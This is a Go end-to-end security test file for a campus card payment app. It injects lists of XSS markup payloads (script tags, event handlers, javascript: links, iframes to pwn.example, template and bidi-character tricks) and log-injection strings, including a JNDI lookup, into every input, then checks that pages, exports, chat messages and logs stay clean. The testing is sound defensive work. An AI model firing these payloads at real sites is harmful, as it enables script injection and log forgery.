package e2e

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"xiaoka/h5"
	"xiaoka/sandbox/campus"
	"xiaoka/sandbox/terminal"
	"xiaoka/sandbox/wecom"
)

// markups try to leave the text they stand in. Whatever one of them makes
// outside a text names pwn.
var markups = []string{
	`<script>pwn()</script>`, `</script><script>pwn()</script>`, `"><script>pwn()</script>`, `'><script>pwn()</script>`, `<ScRiPt src=//pwn.example></sCrIpT>`,
	`<img src=x onerror=pwn()>`, `"><img src=x onerror=pwn()>`, `<svg onload=pwn()>`, `<svg/onload=pwn()>`, `<body onload=pwn()>`,
	`" onfocus="pwn()" autofocus="`, `' onmouseover='pwn()`, `x onclick=pwn() y`, `<a href="javascript:pwn()">赢</a>`, `<a href=//pwn.example>赢</a>`,
	`<iframe src=//pwn.example>`, `<iframe srcdoc="<script>pwn()</script>">`, `<object data=//pwn.example>`, `<embed src=//pwn.example>`, `<base href=//pwn.example/>`,
	`<meta http-equiv=refresh content="0;//pwn.example">`, `<link rel=stylesheet href=//pwn.example>`, `<style>@import '//pwn.example'</style>`, `</title><pwn>`,
	`</textarea><pwn>`, `--><pwn>`, `]]><pwn>`, `<!--<pwn>`, `<pwn a="`, `&lt;pwn&gt;`, `&#60;pwn&#62;`, `<form action=//pwn.example>`,
	`<input name=csrf_token value=pwn>`, `<button formaction=//pwn.example>`, `{{.Pwn}}`, `{{pwn}}`, `${pwn()}`, `<%= pwn %>`, `#{pwn}`, `javascript:pwn()`,
	`<details open ontoggle=pwn()>`, `<math><mi xlink:href="javascript:pwn()">`, `<marquee onstart=pwn()>`, `<video><source onerror=pwn()>`, `<x/onpointerrawupdate=pwn()>`,
	"李\u202e四pwn", "李\u200b四pwn", "\u2066李四pwn\u2069", "李\ufeff四pwn", "李\x00四pwn", "李\x1b[31m四pwn", "李\n四pwn", "李\r四pwn", "＜script＞pwn()＜/script＞", "<pwn\u2028>",
	`[赢](//pwn.example)`, `<div class="highlight">pwn</div>`, `>pwn<font color="warning">`, `<@all> pwn`, `<br><a href="http://pwn.example">pwn</a>`,
}

// invisible are characters that hide or turn what is read.
var invisible = regexp.MustCompile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]")

// alien says what on a page came from somebody's text and is more than text.
func alien(page string) error {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return err
	}
	var faults []error
	blame := func(format string, args ...any) { faults = append(faults, fmt.Errorf(format, args...)) }
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			if at := invisible.FindString(n.Data); at != "" {
				blame("the text %q has %U", n.Data, []rune(at)[0])
			}
			if n.Parent.Data == "script" || n.Parent.Data == "style" {
				blame("inline %s: %s", n.Parent.Data, n.Data)
			}
		case html.CommentNode:
			blame("a comment: %s", n.Data)
		case html.ElementNode:
			if strings.Contains(n.Data, "pwn") || slices.Contains([]string{"iframe", "object", "embed", "base", "style", "marquee", "math", "video", "details"}, n.Data) {
				blame("the element %s", n.Data)
			}
			for _, a := range n.Attr {
				switch v := strings.ToLower(strings.TrimSpace(a.Val)); {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", strings.Contains(a.Key, "pwn"):
					blame("the attribute %s of %s", a.Key, n.Data)
				case a.Key == "http-equiv" && v == "refresh":
					blame("a refresh")
				case slices.Contains([]string{"href", "src", "action", "formaction"}, a.Key) && !ownAddress(v):
					blame("%s of %s leads to %s", a.Key, n.Data, a.Val)
				}
			}
		}
	}
	return errors.Join(faults...)
}

// read is the text of a page as a person reads it.
func read(page string) string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return ""
	}
	var all strings.Builder
	for n := range root.Descendants() {
		if n.Type == html.TextNode {
			all.WriteString(n.Data + "\n")
		}
	}
	return all.String()
}

// formula says what in a file for spreadsheets would be run, or hides.
func formula(a answer) error {
	if a.header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(a.header.Get("Content-Security-Policy"), "default-src 'none'") {
		return fmt.Errorf("headers %v", a.header)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
	isText := func(int, int) bool { return false }
	if strings.Contains(a.header.Get("Content-Disposition"), ".xlsx") {
		var book *excelize.File
		if book, err = excelize.OpenReader(strings.NewReader(a.body)); err == nil {
			sheet := book.GetSheetName(0)
			rows, err = book.GetRows(sheet)
			isText = func(row, column int) bool { return textByType(book, sheet, row, column) }
		}
	}
	if err != nil {
		return err
	}
	for i, row := range rows {
		for j, cell := range row {
			if at := invisible.FindString(cell); at != "" {
				return fmt.Errorf("%q has %U", cell, []rune(at)[0])
			}
			if (strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@")) && !isText(i+1, j+1) {
				return fmt.Errorf("%q would be run", cell)
			}
		}
	}
	return nil
}

// textByType tells whether a cell is a text that stays one when it is edited:
// it holds no formula, and its format is the one for texts.
func textByType(book *excelize.File, sheet string, row, column int) bool {
	const textFormat = 49
	at, _ := excelize.CoordinatesToCellName(column, row)
	held, err1 := book.GetCellFormula(sheet, at)
	id, err2 := book.GetCellStyle(sheet, at)
	style, err3 := book.GetStyle(id)
	return errors.Join(err1, err2, err3) == nil && held == "" && style.NumFmt == textFormat
}

func TestAttack_T39_Markup(t *testing.T) {
	attackedAlone(t, func(t *testing.T, h *house) {
		h.run("terminal", "add", "P66", "--kind", "pos", "--location", markups[0], "--merchant", markups[5])
		m := h.newMember(0).holder()
		form := m.form()
		m.pay(m.orderNo(1000))
		// pages are all that answer this person with a page.
		var pages []string
		for _, r := range h5.Routes() {
			if r.Method == "GET" && r.Kind == h5.Page && !strings.Contains(strings.ReplaceAll(r.Pattern, "{$}", ""), "{") && r.Pattern != "/h5/oauth/callback" {
				pages = append(pages, strings.ReplaceAll(r.Pattern, "{$}", ""))
			}
		}
		pages = append(pages, "/h5/nowhere")
		rename := func(name string) {
			path := filepath.Join(t.TempDir(), "name.csv")
			row := m.StudentNo + ",\"" + strings.ReplaceAll(name, `"`, `""`) + "\",\"" + strings.ReplaceAll(name, `"`, `""`) + "\"\n"
			if err := os.WriteFile(path, []byte("student_no,name,department\n"+row), 0o600); err != nil {
				t.Fatal(err)
			}
			h.run("people", "import", path)
		}
		clean := func(t *testing.T, where string, a answer) {
			t.Helper()
			if strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment;") {
				if err := formula(a); err != nil {
					t.Errorf("%s: %v", where, err)
				}
				return
			}
			if err := alien(a.body); err != nil {
				t.Errorf("%s: %v", where, err)
			}
			policy := a.header.Get("Content-Security-Policy")
			if !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "unsafe") || a.header.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.HasPrefix(a.header.Get("Content-Type"), "text/html; charset=utf-8") {
				t.Errorf("%s: policy %q, type %q", where, policy, a.header.Get("Content-Type"))
			}
		}
		visible := func(s string) string {
			return strings.Join(strings.Fields(invisible.ReplaceAllString(s, "")), "") // line breaks are no part of a name
		}

		t.Run("Name", func(t *testing.T) {
			for _, name := range append(markups, "O'Neill & Söhne") {
				rename(name)
				for _, path := range pages {
					a := m.send("GET", path, nil)
					if a.status == http.StatusSeeOther {
						continue
					}
					clean(t, path+" for "+name, a)
					if path == "/h5/" && !strings.Contains(strings.Join(strings.Fields(read(a.body)), ""), visible(name)) {
						t.Errorf("the name %q is shown as something else", name)
					}
				}
			}
			rename(m.Name)
		})
		t.Run("Typed", func(t *testing.T) {
			other := h.newMember(1)
			other.prove()
			others := other.form()
			for _, s := range markups {
				clean(t, "bind with "+s, other.send("POST", "/h5/bind", with(others, "name", s, "number", s, "query_password", "98765")))
				clean(t, "top-up with "+s, m.send("POST", "/h5/topup", with(form, "amount_yuan", s)))
				clean(t, "settings with "+s, m.send("POST", "/h5/settings", with(form, "low_balance_yuan", s, "lang", s)))
				for _, path := range pages {
					for _, query := range []string{"month", "page", "amount_fen", "done", "sent", "with", "kind", "merchant", "from"} {
						if strings.HasSuffix(path, "/nowhere") && query != "from" {
							continue
						}
						if a := m.send("GET", path+"?"+url.Values{query: {s}}.Encode(), nil); a.status != http.StatusSeeOther {
							clean(t, path+"?"+query+"="+s, a)
						}
						if s != markups[2] && s != markups[10] {
							break // the rest of the parameters with two of them is enough
						}
					}
				}
				clean(t, "/h5/"+s, m.send("GET", "/h5/"+url.PathEscape(s), nil))
			}
		})
		t.Run("Merchant", func(t *testing.T) {
			chip := m.cardState()
			var records []terminal.Record
			for i, s := range markups {
				chip.SpendSeq, chip.BalanceFen = chip.SpendSeq+1, chip.BalanceFen-1
				records = append(records, terminal.Record{Seq: int64(i + 1), CardNo: m.CardNo, AmountFen: 1, Chip: chip,
					OccurredAt: time.Now().Truncate(time.Second).Add(-time.Duration(len(markups)-i) * time.Second), Merchant: s})
			}
			r, err := h.terminal("P01").Consumptions(m.context(), records)
			if err != nil || r.Accepted != len(markups) {
				t.Fatalf("%+v, %v", r, err)
			}
			for _, path := range pages {
				for _, page := range []string{"", "?page=2", "?page=3", "?page=4"} {
					if a := m.send("GET", path+page, nil); a.status == http.StatusOK {
						clean(t, path+page, a)
					}
				}
			}
		})
		t.Run("Chat", func(t *testing.T) {
			tag := regexp.MustCompile(`</?\s*([^\s>]*)[^>]*>`)
			people := []campus.Person{student(1), student(2), student(3), student(4)}
			for i, name := range []string{markups[0], markups[54], markups[56], markups[59]} {
				people[i].Name = name
			}
			speakers := h.enrol(ownPassword, people...)
			for _, p := range speakers {
				p.prove()
				p.post("/h5/bind", map[string]string{"name": p.Name, "number": p.CardNo, "query_password": ownPassword})
				for _, style := range []string{"card", "textcard"} {
					p.post("/h5/settings", map[string]string{"message_style": style})
					for _, words := range []string{"余额", "挂失 " + p.Name, "充值 " + p.Name, p.Name} {
						p.toldSince(p.say(campus.CardID, words), campus.CardID)
					}
				}
			}
			m.toldSince(m.say(campus.CardID, "明细"), campus.CardID) // with the merchants
			var heard []wecom.Message
			for _, p := range append(speakers, m) {
				heard = append(heard, h.campus.WeCom.Conversation(p.UserID, campus.CardID)...)
			}
			for _, msg := range heard {
				if msg.From != "app" {
					continue
				}
				if at := invisible.FindString(strings.ReplaceAll(msg.Text, "\n", "")); at != "" {
					t.Errorf("%U in %s", []rune(at)[0], text(msg))
				}
				b, err := json.Marshal(msg.Card)
				if err != nil {
					t.Fatal(err)
				}
				if at := regexp.MustCompile(`\\u(202|200|206|feff|00)`).FindString(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(string(b))); at != "" {
					t.Errorf("%s in %s", at, b)
				}
				if msg.TextCard == nil {
					continue
				}
				for _, found := range tag.FindAllStringSubmatch(msg.TextCard.Description, -1) {
					if found[1] != "div" && found[1] != "br" && found[1] != "" || strings.Contains(found[0], "pwn") || strings.Contains(found[0], "href") {
						t.Errorf("the text card has %s", found[0])
					}
				}
			}
			if w := h.campus.WeCom.Warnings(); len(w) > 0 {
				t.Errorf("WeCom warns: %+v", w)
			}
		})
		t.Run("Callback", func(t *testing.T) {
			for _, path := range []string{"/wecom/card", "/wecom/assistant", "/kiosk/v1/" + url.PathEscape(markups[0]), "/openapi.yaml/" + url.PathEscape(markups[0])} {
				a := h.nobody().send("GET", path+"?"+url.Values{"echostr": {markups[0]}, "msg_signature": {"x"}, "timestamp": {"1"}, "nonce": {"1"}}.Encode(), nil)
				if a.status < 400 || strings.Contains(a.body, "<script") {
					t.Errorf("%s: %d %s", path, a.status, a.body)
				}
			}
		})
		t.Run("Twin", func(t *testing.T) {
			if err := alien(`<p>` + html.EscapeString(markups[0]) + `</p>`); err != nil {
				t.Errorf("what is escaped is blamed: %v", err)
			}
			for _, s := range markups[:28] {
				if alien(`<p title="`+s+`">`+s+`</p>`) == nil && !strings.HasPrefix(s, "'") && !strings.HasPrefix(s, "x ") {
					t.Errorf("%s is not found when it is there", s)
				}
			}
			if code, page := m.get("/h5/"); code != http.StatusOK || !strings.Contains(page, m.Name) {
				t.Errorf("%d\n%s", code, page)
			}
		})
	})
}

func TestAttack_T42_LogInjection(t *testing.T) {
	attackedAlone(t, func(t *testing.T, h *house) {
		forged := []string{
			"x\nlevel=ERROR msg=pwned", "x\r\nlevel=ERROR msg=pwned", "x\rlevel=ERROR msg=pwned", "x\x1b[2J\x1b[31mpwned", "x\u2028level=ERROR msg=pwned", "x\u0085msg=pwned",
			`x" level=ERROR msg="pwned`, "x=y msg=pwned", "x\n{\"level\":\"ERROR\",\"msg\":\"pwned\"}", `","level":"ERROR","msg":"pwned`, "x\x00pwned", "x\u202epwned", "x\tpwned", "x%0alevel=ERROR msg=pwned",
			"${jndi:ldap://pwned}", "%s%n%d pwned", "x\\nlevel=ERROR msg=pwned", "\ufeffpwned", "x\vpwned", strings.Repeat("pwned", 2000),
		}
		attack := func(t *testing.T) {
			owner, thief := h.newMember(0), h.newMember(1)
			offer := owner.offered()
			for _, s := range forged {
				inXML := strings.Map(func(r rune) rune { // what XML cannot carry at all never reaches the product
					if r < ' ' && r != '\n' && r != '\r' && r != '\t' {
						return ' '
					}
					return r
				}, s)
				key := "verify.email"
				for _, x := range []string{
					h.pressXML(thief.UserID, campus.AssistantID, offer.Card.TaskID, key),
					h.pressXML(thief.UserID, campus.AssistantID, inXML, key),
					h.pressXML("u"+inXML, campus.AssistantID, offer.Card.TaskID, key),
					strings.Replace(h.pressXML(thief.UserID, campus.AssistantID, offer.Card.TaskID, key), "template_card_event", inXML, 1),
				} {
					// Some are refused as malformed, which is just as well.
					_, _ = h.campus.WeCom.Deliver(owner.context(), campus.AssistantID, x)
				}
				header := func(r *http.Request) {
					for _, name := range []string{"User-Agent", "X-Request-Id", "Referer", "X-Forwarded-For", "Authorization", "Wechatpay-Serial", "Request-Id"} {
						if len(s) < 1000 && !regexp.MustCompile("[\x00-\x08\x0a-\x1f]").MatchString(s) { // no header can carry those
							r.Header.Set(name, s)
						}
					}
				}
				for _, path := range []string{"/h5/", "/h5/topup/orders/" + url.PathEscape(s), "/kiosk/v1/" + url.PathEscape(s), "/h5/oauth/callback?code=" + url.QueryEscape(s) + "&state=" + url.QueryEscape(s)} {
					if len(path) < 8000 {
						h.nobody().send("GET", path, nil, header)
					}
				}
				h.nobody().send("POST", "/wechatpay/notify", nil, func(r *http.Request) { header(r); setBody(r, s) })
				if len(s) < 30 {
					k := h.terminal("K01")
					k.TerminalID = strings.NewReplacer("\n", "", "\r", "", "\x00", "").Replace(s)
					_, _ = k.Lookup(owner.context(), owner.CardNo, "000000")
				}
				_, _ = h.terminal("K01").Cancel(owner.context(), "x", owner.cardState(), s)
				owner.say(campus.CardID, inXML)
			}
		}
		// lines are what a replica has logged, cut where a reader would.
		lines := func() []string { return strings.Split(strings.TrimSuffix(h.said(), "\n"), "\n") }
		check := func(t *testing.T, dirty *regexp.Regexp, whole func(line string) bool) {
			t.Helper()
			presses := 0
			for _, line := range lines() {
				if !whole(line) {
					t.Errorf("not a line of ours: %.200q", line)
				}
				if dirty.MatchString(line) {
					t.Errorf("a control character in %.200q", line)
				}
				if strings.Contains(line, "card press refused") {
					presses++
				}
			}
			if presses < len(forged) {
				t.Errorf("%d presses are logged, want %d at least", presses, len(forged))
			}
		}
		t.Run("Text", func(t *testing.T) {
			attack(t)
			pair := regexp.MustCompile(`^([a-z_]+)=("(?:[^"\\]|\\.)*"|[^\s"]*)( |$)`)
			check(t, regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0085\u2028\u2029\u202a-\u202e\u2066-\u2069]"), func(line string) bool {
				var names []string
				for line != "" {
					found := pair.FindStringSubmatch(line)
					if found == nil || slices.Contains(names, found[1]) {
						return false
					}
					names = append(names, found[1])
					line = line[len(found[0]):]
				}
				return len(names) > 2 && slices.Equal(names[:3], []string{"time", "level", "msg"})
			})
		})
		t.Run("JSON", func(t *testing.T) {
			b, err := os.ReadFile(h.config)
			if err != nil {
				t.Fatal(err)
			}
			changed := strings.Replace(string(b), `format: "text"`, `format: "json"`, 1)
			if changed == string(b) {
				t.Fatal("the configuration has no log format")
			}
			if err := os.WriteFile(h.config, []byte(changed), 0o600); err != nil {
				t.Fatal(err)
			}
			h.powerCut()
			attack(t)
			// JSON needs no escape beyond these to keep a line one line.
			check(t, regexp.MustCompile("[\x00-\x1f\u2028\u2029]"), func(line string) bool {
				var entry struct{ Time, Level, Msg string }
				return json.Unmarshal([]byte(line), &entry) == nil && entry.Time != "" && entry.Msg != "pwned" && strings.Count(line, `"level":`) == 1
			})
		})
	})
}

// ownAddress reports whether a link stays in the product.
func ownAddress(href string) bool {
	return strings.HasPrefix(href, "/h5/") || strings.HasPrefix(href, "/guide/") || strings.HasPrefix(href, "#")
}
